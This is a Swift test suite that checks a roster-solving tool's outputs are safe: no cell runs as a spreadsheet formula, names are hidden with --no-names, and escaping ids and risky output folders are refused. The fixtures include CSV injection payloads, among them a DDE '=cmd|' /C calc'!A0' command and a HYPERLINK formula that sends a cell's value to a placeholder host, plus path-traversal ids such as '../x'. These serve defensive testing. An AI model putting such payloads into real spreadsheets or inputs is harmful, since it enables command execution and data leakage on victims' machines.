import Foundation
import PlanReading
import RosterCheck
import Testing

/// Outputs are safe to open and to publish: no formula a spreadsheet would run, no names with
/// `--no-names`, no file outside `--out` whatever an id says.
struct SafeOutputTests {
    /// Free-text names and municipality texts that a spreadsheet would run as formulas. Each agent
    /// can work only a two-hour window of their own, so the floor puts every one of them on the roster.
    static func hostilePlan() -> GeneratedPlan {
        let names = [
            "=HYPERLINK(\"http://example.invalid/?q=\"&A1;\"open\")", "+45 12 34 56 78", "-2+3", "@SUM(1;2)",
            "\t=1+1", "\r=cmd|' /C calc'!A0", " =1+1", "-12.5",
        ]
        var plan = GeneratedPlan.everyoneWorks(names: names, municipalities: 2)
        plan.municipalities[0].name = "=1+1"
        plan.municipalities[0].region = "@region"
        plan.municipalities[1].name = "+Syd"
        plan.municipalities[1].region = "-Midt"
        plan.balance = [.init(municipality: "m0", owedHours: -1.5, afterWeek: "2026-W48")]
        return plan
    }

    @Test func noCellOfAnyOutputRunsAsAFormulaAndTheNamesSurvive() throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("formulas")
        defer { try? FileManager.default.removeItem(atPath: root) }
        let plan = Self.hostilePlan()
        try plan.write(to: root + "/plan")
        let out = root + "/out"
        let result = try binary.run(["solve", root + "/plan", "--out", out, "--quiet"], logFolder: root + "/logs")
        try #require(result.status == 0, "\(result.standardError)")

        let files = try #require(try FolderSnapshot(folder: out)).entries.filter { $0.key.hasSuffix(".csv") }
        #expect(files.count == 6)
        for (path, data) in files {
            let rows = SpreadsheetCells.rows(try #require(String(data: data, encoding: .utf8)))
            for (line, row) in rows.enumerated() {
                for cell in row where SpreadsheetCells.couldRunAsFormula(cell) {
                    Issue.record("\(path):\(line + 1): cell \(cell.debugDescription) would run as a formula")
                }
            }
        }
        // Neutralized, not lost: every name is still there, behind the `'` a spreadsheet hides.
        let roster = SpreadsheetCells.rows(try String(contentsOfFile: out + "/roster.csv", encoding: .utf8))
        let header = try #require(roster.first)
        let nameColumn = try #require(header.firstIndex(of: "name"))
        let visible: (String) -> String = { text in
            String(text.drop { $0 == "'" || $0.isWhitespace })
        }
        let written = Set(roster.dropFirst().map { visible($0[nameColumn]) })
        #expect(written == Set(plan.agentNames.map(visible)))
        let loaded = try PlanReader.read(folder: root + "/plan").plan
        let report = try RosterChecker.check(plan: loaded, rosterFolder: out)
        #expect(report.passed, "\(report.render())")
    }

    /// The detector itself: it must flag what a spreadsheet would run and pass what it would not.
    @Test(arguments: [
        ("=1+1", true), ("+45", true), ("-x", true), ("@SUM(1)", true), ("\t=1", true), ("\r=1", true),
        ("\n=1", true), (" =1", true), ("'=1+1", false), ("-0.25", false), ("12", false), ("Ada Holm", false), ("", false),
    ])
    func theFormulaDetectorFlagsWhatASpreadsheetWouldRun(cell: String, runs: Bool) {
        #expect(SpreadsheetCells.couldRunAsFormula(cell) == runs)
    }

    @Test func withoutNamesNoAgentNameAppearsInAnyFile() throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("no-names")
        defer { try? FileManager.default.removeItem(atPath: root) }
        let plan = GeneratedPlan.everyoneWorks(names: (1...8).map { "Søren Ærø Kjærsgaard-\($0)" }, municipalities: 4)
        try plan.write(to: root + "/plan")
        let names = plan.agentNames.map { Data($0.utf8) }

        // With names (the control: the search below can find them) and without.
        let named = try binary.run(["solve", root + "/plan", "--out", root + "/named", "--quiet"], logFolder: root + "/logs")
        try #require(named.status == 0, "\(named.standardError)")
        let namedRoster = try #require(try FolderSnapshot(folder: root + "/named")?.entries["roster.csv"])
        #expect(names.allSatisfy { namedRoster.range(of: $0) != nil })

        let anonymous = try binary.run(["solve", root + "/plan", "--out", root + "/out", "--quiet", "--no-names"], logFolder: root + "/logs")
        try #require(anonymous.status == 0, "\(anonymous.standardError)")
        let folder = try #require(try FolderSnapshot(folder: root + "/out"))
        #expect(folder.entries.count == 10)
        for (path, data) in folder.entries {
            for (name, bytes) in zip(plan.agentNames, names) where data.range(of: bytes) != nil {
                Issue.record("\(path) contains the name \(name)")
            }
        }
        let roster = SpreadsheetCells.rows(try String(contentsOfFile: root + "/out/roster.csv", encoding: .utf8))
        #expect(roster.count == 9 && roster.dropFirst().allSatisfy { $0[6] == $0[7] })
        let loaded = try PlanReader.read(folder: root + "/plan").plan
        #expect(try RosterChecker.check(plan: loaded, rosterFolder: root + "/out").passed)
    }

    /// An id that points elsewhere, placed in the file that carries it, and where the refusal is reported.
    struct EscapingID: Sendable, CustomTestStringConvertible {
        let file: String
        let original: String
        let replacement: String
        let location: String
        var testDescription: String { "\(replacement) in \(file)" }
    }

    @Test(arguments: [
        EscapingID(file: "availability/m0.csv", original: "\na1;", replacement: "\n../x;", location: "availability/m0.csv:2: agent:"),
        EscapingID(file: "availability/m0.csv", original: "\na1;", replacement: "\n..;", location: "availability/m0.csv:2: agent:"),
        EscapingID(file: "availability/m1.csv", original: "\na2;", replacement: "\na/../../x;", location: "availability/m1.csv:3: agent:"),
        EscapingID(file: "municipalities.csv", original: "\nm0;", replacement: "\n../x;", location: "municipalities.csv:2: id:"),
        EscapingID(file: "municipalities.csv", original: "\nm1;", replacement: "\n/tmp/x;", location: "municipalities.csv:3: id:"),
        EscapingID(file: "municipalities.csv", original: "\nm1;", replacement: "\n..;", location: "municipalities.csv:3: id:"),
        EscapingID(file: "balance.csv", original: "\nm0;", replacement: "\n../m0;", location: "balance.csv:2: municipality:"),
    ])
    func anIdThatPointsElsewhereIsRefusedAndNothingIsWritten(id: EscapingID) throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("escaping-id")
        defer { try? FileManager.default.removeItem(atPath: root) }
        var plan = GeneratedPlan.spread(count: 2)
        plan.balance = [.init(municipality: "m0", owedHours: 1, afterWeek: "2026-W48")]
        try plan.write(to: root + "/plan")
        let file = root + "/plan/" + id.file
        let text = try String(contentsOfFile: file, encoding: .utf8)
        try #require(text.contains(id.original))
        try text.replacingOccurrences(of: id.original, with: id.replacement).write(toFile: file, atomically: false, encoding: .utf8)

        let logs = FixturePlans.temporaryFolder("escaping-id-logs")
        defer { try? FileManager.default.removeItem(atPath: logs) }
        let before = try Self.listing(root)
        let result = try binary.run(["solve", root + "/plan", "--out", root + "/work/out", "--quiet"], logFolder: logs)
        #expect(result.status == 65)
        #expect(result.standardError.contains(id.location), "\(result.standardError)")
        #expect(try Self.listing(root) == before)
    }

    @Test func aSolveCreatesNothingOutsideItsOutputFolder() throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("contained")
        defer { try? FileManager.default.removeItem(atPath: root) }
        try GeneratedPlan.spread(count: 3).write(to: root + "/plan")
        let logs = FixturePlans.temporaryFolder("contained-logs")
        defer { try? FileManager.default.removeItem(atPath: logs) }
        for _ in 1...2 {  // first into nothing, then replacing the folder
            let before = try Self.listing(root)
            let result = try binary.run(["solve", root + "/plan", "--out", root + "/work/out", "--quiet"], logFolder: logs)
            #expect(result.status == 0, "\(result.standardError)")
            let after = try Self.listing(root)
            #expect(after.contains("work/out/roster.csv"))
            let changed = after.symmetricDifference(before)
            #expect(changed.allSatisfy { $0 == "work/" || $0.hasPrefix("work/out/") }, "\(changed.sorted())")
        }
    }

    /// Replacing a folder deletes what it held: `--out` pointing at the plan, into it, or at a folder
    /// of the user's own files is refused (exit 73), and nothing anywhere changes.
    @Test(arguments: ["plan", "plan/availability", "documents"])
    func aFolderThatIsNotARosterFolderIsNeverReplaced(out: String) throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("not-a-roster")
        defer { try? FileManager.default.removeItem(atPath: root) }
        try GeneratedPlan.spread(count: 2).write(to: root + "/plan")
        try FileManager.default.createDirectory(atPath: root + "/documents", withIntermediateDirectories: true)
        try Data("precious\n".utf8).write(to: URL(fileURLWithPath: root + "/documents/thesis.txt"))
        let logs = FixturePlans.temporaryFolder("not-a-roster-logs")
        defer { try? FileManager.default.removeItem(atPath: logs) }

        let before = try FolderSnapshot(folder: root)
        let result = try binary.run(["solve", root + "/plan", "--out", root + "/" + out, "--quiet"], logFolder: logs)
        #expect(result.status == 73)
        #expect(result.standardError.contains("refusing to replace"), "\(result.standardError)")
        #expect(try FolderSnapshot(folder: root) == before)
    }

    /// A municipality id starting with "-" would have to be neutralized in every output (`'-south`),
    /// and the roster would then no longer match its plan: reading refuses such ids.
    @Test func aMunicipalityIdAFormulaCouldStartIsRefused() throws {
        let binary = try RosterBinary.locate()
        let root = FixturePlans.temporaryFolder("minus-id")
        defer { try? FileManager.default.removeItem(atPath: root) }
        var plan = GeneratedPlan.everyoneWorks(names: ["Ada", "Bo"], municipalities: 2)
        plan.municipalities[1].id = "-south"
        try plan.write(to: root + "/plan")
        let result = try binary.run(["solve", root + "/plan", "--out", root + "/out", "--quiet"], logFolder: root + "/logs")
        #expect(result.status == 65)
        #expect(result.standardError.contains("municipalities.csv:3: id: \"-south\" is not a valid id"), "\(result.standardError)")
        #expect(!FileManager.default.fileExists(atPath: root + "/out"))
    }

    /// Every path under `folder`, hidden ones included.
    static func listing(_ folder: String) throws -> Set<String> {
        Set(try #require(try FolderSnapshot(folder: folder)).entries.keys)
    }
}
